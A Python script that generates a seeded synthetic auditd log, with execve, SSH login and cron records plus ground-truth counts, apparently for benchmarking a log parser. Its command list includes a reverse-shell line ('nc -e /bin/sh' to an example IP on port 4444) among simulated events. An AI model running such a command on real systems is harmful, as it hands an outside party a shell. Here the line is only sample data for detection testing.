#!/usr/bin/env python3
"""A realistic audit.log, deterministically (seeded): what auditd writes on a server with
execve auditing and PAM logins, as ground truth for bench/audit.sh.

Per event, one of:
  - an exec (74 %): SYSCALL (execve), EXECVE (arguments quoted or hex, a long one in
    pieces now and then), CWD, PATH x2, PROCTITLE, EOE;
  - an SSH login attempt (20 %): failed ones are USER_AUTH + USER_LOGIN res=failed; a
    successful one USER_AUTH, USER_ACCT, CRED_ACQ, USER_LOGIN, USER_START, later USER_END
    and CRED_DISP;
  - other records (6 %): a cron job's USER_ACCT/CRED_ACQ/USER_START/USER_END, the odd
    ADD_USER, USER_CHAUTHTOK, a non-exec SYSCALL with its PATH.
Half the file is `log_format = ENRICHED` (names after a 0x1d byte).

    gen_auditlog.py --lines N [--seed S] [--truth FILE] > audit.log
"""
import argparse
import json
import random
import sys

CMDS = [
    ["ls", "-la", "/var/www"], ["ps", "aux"], ["grep", "-r", "needle", "/etc"],
    ["sh", "-c", "echo hello world"], ["curl", "-s", "https://example.com/x"],
    ["python3", "/opt/app/run.py", "--config", "/etc/app.yaml"], ["id"],
    ["tar", "czf", "/tmp/backup.tgz", "/home"], ["sed", "-n", "1,20p", "/etc/passwd"],
    ["systemctl", "status", "nginx"], ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"],
]
USERS = ["alice", "bob", "carol", "deploy", "root"]
GUESSES = ["root", "admin", "test", "oracle", "ubuntu", "user", "pi", "git"]


def enc(arg):
    if all(0x20 < ord(c) < 0x7F and c != '"' for c in arg) and arg:
        return f'"{arg}"'
    return arg.encode().hex().upper()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--lines", type=int, required=True)
    ap.add_argument("--seed", type=int, default=42)
    ap.add_argument("--truth")
    a = ap.parse_args()
    r = random.Random(a.seed)
    out = sys.stdout
    t = 1_767_225_600.0  # 2026-01-01T00:00:00Z
    serial = 1000
    n = 0
    truth = {"execs": 0, "auth_failures": 0, "logins": 0, "users_created": 0}
    pending_end = []

    def emit(kind, body, enriched=None):
        nonlocal n
        line = f"type={kind} msg=audit({t:.3f}:{serial}): {body}"
        if enriched is not None and enriched_file:
            line += "\x1d" + enriched
        out.write(line + "\n")
        n += 1

    while n < a.lines:
        enriched_file = n < a.lines // 2
        serial += 1
        t += r.random() * 0.05
        x = r.random()
        if pending_end and r.random() < 0.2:
            user, ses, ip = pending_end.pop()
            m = f"msg='op=PAM:session_close grantors=pam_unix acct=\"{user}\" exe=\"/usr/sbin/sshd\" hostname={ip} addr={ip} terminal=ssh res=success'"
            emit("USER_END", f"pid=900 uid=0 auid=1000 ses={ses} {m}", f'UID="root" AUID="{user}"')
            serial += 1
            emit("CRED_DISP", f"pid=900 uid=0 auid=1000 ses={ses} " + m.replace("session_close", "setcred"), f'UID="root" AUID="{user}"')
        elif x < 0.74:
            argv = list(r.choice(CMDS))
            if r.random() < 0.1:
                argv.append("arg with spaces")
            user = r.choice(USERS)
            pid = r.randint(1000, 60000)
            exe = "/usr/bin/" + argv[0]
            emit("SYSCALL", f"arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid={pid - 1} pid={pid} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm=\"{argv[0][:15]}\" exe=\"{exe}\" subj=unconfined key=\"exec\"",
                 f'ARCH=x86_64 SYSCALL=execve AUID="{user}" UID="{user}" GID="{user}" EUID="{user}" SUID="{user}" FSUID="{user}" EGID="{user}" SGID="{user}" FSGID="{user}"')
            if r.random() < 0.02:
                big = "".join(r.choice("abcdef0123456789") for _ in range(3000))
                args = " ".join(f"a{i}={enc(v)}" for i, v in enumerate(argv))
                pieces = " ".join(f"a{len(argv)}[{j}]={enc(big[j * 1000:(j + 1) * 1000])}" for j in range(3))
                emit("EXECVE", f"argc={len(argv) + 1} {args} a{len(argv)}_len=3000 {pieces}")
            else:
                emit("EXECVE", f"argc={len(argv)} " + " ".join(f"a{i}={enc(v)}" for i, v in enumerate(argv)))
            emit("CWD", 'cwd="/home/deploy"')
            emit("PATH", f'item=0 name="{exe}" inode=1234 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0', 'OUID="root" OGID="root"')
            emit("PATH", 'item=1 name="/lib64/ld-linux-x86-64.so.2" inode=99 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0', 'OUID="root" OGID="root"')
            emit("PROCTITLE", "proctitle=" + "00".join(v.encode().hex().upper() for v in argv))
            emit("EOE", "")
            truth["execs"] += 1
        elif x < 0.94:
            ip = f"198.51.{r.randint(0, 255)}.{r.randint(1, 254)}"
            pid = r.randint(1000, 60000)
            if r.random() < 0.7:
                user = r.choice(GUESSES)
                m = f"msg='op=PAM:authentication grantors=? acct=\"{user}\" exe=\"/usr/sbin/sshd\" hostname={ip} addr={ip} terminal=ssh res=failed'"
                emit("USER_AUTH", f"pid={pid} uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 {m}", 'UID="root" AUID="unset"')
                serial += 1
                emit("USER_LOGIN", f"pid={pid} uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"{user}\" exe=\"/usr/sbin/sshd\" hostname=? addr={ip} terminal=ssh res=failed'", 'UID="root" AUID="unset"')
                truth["auth_failures"] += 1
            else:
                user = r.choice(USERS)
                ses = r.randint(1, 9999)
                def m(op, res="success"):
                    return f"msg='op={op} grantors=pam_unix acct=\"{user}\" exe=\"/usr/sbin/sshd\" hostname={ip} addr={ip} terminal=ssh res={res}'"
                for kind, op in [("USER_AUTH", "PAM:authentication"), ("USER_ACCT", "PAM:accounting"), ("CRED_ACQ", "PAM:setcred")]:
                    emit(kind, f"pid={pid} uid=0 auid=4294967295 ses=4294967295 {m(op)}", 'UID="root" AUID="unset"')
                    serial += 1
                emit("USER_LOGIN", f"pid={pid} uid=0 auid=1000 ses={ses} msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=? addr={ip} terminal=/dev/pts/1 res=success'", f'UID="root" AUID="{user}" ID="{user}"')
                serial += 1
                emit("USER_START", f"pid={pid} uid=0 auid=1000 ses={ses} {m('PAM:session_open')}", f'UID="root" AUID="{user}"')
                pending_end.append((user, ses, ip))
                truth["logins"] += 1
        else:
            y = r.random()
            if y < 0.1:
                name = f"svc{serial}"
                emit("ADD_USER", f"pid=4242 uid=0 auid=1000 ses=3 msg='op=add-user acct=\"{name}\" exe=\"/usr/sbin/useradd\" hostname=web01 addr=? terminal=pts/0 res=success'", 'UID="root" AUID="alice"')
                truth["users_created"] += 1
            elif y < 0.2:
                emit("USER_CHAUTHTOK", "pid=4243 uid=0 auid=1000 ses=3 msg='op=PAM:chauthtok grantors=pam_unix acct=\"bob\" exe=\"/usr/bin/passwd\" hostname=web01 addr=? terminal=pts/0 res=success'", 'UID="root" AUID="alice"')
            elif y < 0.6:
                for kind, op in [("USER_ACCT", "PAM:accounting"), ("CRED_ACQ", "PAM:setcred"), ("USER_START", "PAM:session_open"), ("USER_END", "PAM:session_close")]:
                    emit(kind, f"pid=777 uid=0 auid=0 ses=12 msg='op={op} grantors=pam_unix acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success'", 'UID="root" AUID="root"')
                    serial += 1
            else:
                emit("SYSCALL", 'arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=0 a3=0 items=1 ppid=1 pid=555 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="sshd" exe="/usr/sbin/sshd" key="shadow"', 'ARCH=x86_64 SYSCALL=openat AUID="unset" UID="root"')
                emit("PATH", 'item=0 name="/etc/shadow" inode=5 dev=fd:00 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL', 'OUID="root" OGID="shadow"')
                emit("PROCTITLE", "proctitle=2F7573722F7362696E2F73736864002D44")
    truth["lines"] = n
    if a.truth:
        with open(a.truth, "w") as f:
            json.dump(truth, f)


if __name__ == "__main__":
    main()
